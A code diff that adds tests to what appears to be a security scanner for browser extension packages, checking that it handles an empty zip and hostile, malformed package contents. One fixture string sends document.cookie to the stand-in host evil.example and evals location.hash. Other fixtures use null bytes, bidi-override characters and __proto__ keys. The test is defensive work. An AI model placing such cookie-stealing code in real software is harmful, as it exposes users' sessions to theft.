@@ -1,3 +1,4 @@
+import { zipSync } from 'fflate';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { extensionZip, startSurroundings, type Surroundings } from './surroundings.ts';
 import { startTestService, type TestService } from './testService.ts';
@@ -207,6 +208,19 @@ export function scanningSuite(name: string, settings: () => Promise<Readonly<Rec
       it('says so when the file is no archive', async () => {
         const { body } = await service.upload('broken.xpi', new TextEncoder().encode('this is no archive'));
         expect(await service.ended(body.repo_id)).toMatchObject({ phase: 'Failed', error_message: expect.stringMatching(/not a zip file/) });
+      });
+
+      it('gives no grade for nothing', async () => {
+        const { body } = await service.upload('empty.zip', zipSync({}));
+        expect(await service.ended(body.repo_id)).toMatchObject({ phase: 'Failed', risk_grade: null, error_message: expect.stringMatching(/no file in it/) });
+      });
+
+      it('is not kept from its work by what is written in the package', async () => {
+        const evil = 'fetch("https://evil.example/\u0000?" + document.cookie); eval("\ud800\u0000" + location.hash);\n';
+        const files = { 'a\u0000b.js': evil, __proto__x: evil, 'constructor.js': evil, 'package.json': '{"name":"a\\u0000","license":"MIT\\u0000","dependencies":{"\\u0000":"1","__proto__":"2"}}' };
+        const { body } = await service.upload('evil.zip', extensionZip('1.0', 'Evil\u0000 \u202ename\ud800', files));
+        expect(await service.ended(body.repo_id)).toMatchObject({ is_complete: true, title: expect.stringMatching(/^Evil +name.?$/u), total_files: 6 });
+        expect((await service.get(`/repos/${body.repo_id}/report`)).status).toBe(200);
       });
     });
   });
